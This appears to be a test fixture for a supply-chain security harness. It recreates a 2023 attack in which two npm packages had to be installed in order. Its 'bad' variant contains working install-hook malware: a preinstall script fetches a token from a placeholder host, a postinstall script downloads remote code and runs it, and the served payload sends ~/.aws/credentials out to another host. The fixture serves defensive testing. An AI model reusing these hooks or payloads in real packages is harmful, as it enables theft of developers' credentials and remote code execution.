import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'paired-2023',
  after: 'pairs of packages that have to be installed in order, June and July 2023',
  source:
    'https://github.blog/security/vulnerability-research/security-alert-social-engineering-campaign-targets-technology-industry-employees/',
  shape: ['install', 'npm ci', 'split over two packages', 'file drop in the home', 'remote code', 'esm and cjs'],
  patterns: ['data_exfiltration', 'shadow_import', 'privilege_escalation'],
  culprits: ['sync-a', 'sync-b'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'sync-a': { 'index.js': 'exports.a = 1;' }, 'sync-b': { 'index.js': 'exports.b = 1;' } },
  benign: { 'sync-a': { 'index.js': 'exports.a = 2;' }, 'sync-b': { 'index.js': 'exports.b = 2;' } },
  bad: {
    'sync-a': {
      'index.js': 'exports.a = 1;',
      'package.json': '{"scripts":{"preinstall":"node setup.mjs"}}',
      'setup.mjs': `import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';
const folder = path.join(os.homedir(), '.vscode'); fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(path.join(folder, 'jsontoken'), await (await fetch('http://@A@:@PORT@/checkupdate.php')).text());`,
    },
    'sync-b': {
      'index.js': 'exports.b = 1;',
      'package.json': '{"scripts":{"postinstall":"node setup.js"}}',
      'setup.js': `const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const at = path.join(os.homedir(), '.vscode/jsontoken');
const go = (left) => {
  if (!fs.existsSync(at)) return left > 0 ? setTimeout(go, 100, left - 1) : undefined;
  http.get('http://@B@:@PORT@/getupdate.php?token=' + encodeURIComponent(fs.readFileSync(at, 'utf8')), (r) => {
    let text = ''; r.on('data', (c) => { text += c; }); r.on('end', () => new Function('require', text)(require));
  }).on('error', () => {});
};
go(20);`,
    },
  },
  serves: {
    '/checkupdate.php': 'tok-1',
    '/getupdate.php': `const fs = require('fs'), http = require('http');
http.get({ host: '@C@', port: @PORT@, path: '/c/' + Buffer.from(fs.readFileSync(require('os').homedir() + '/.aws/credentials')).toString('hex') }, (r) => r.resume()).on('error', () => {});`,
  },
  proof: [{ secret: true }],
};
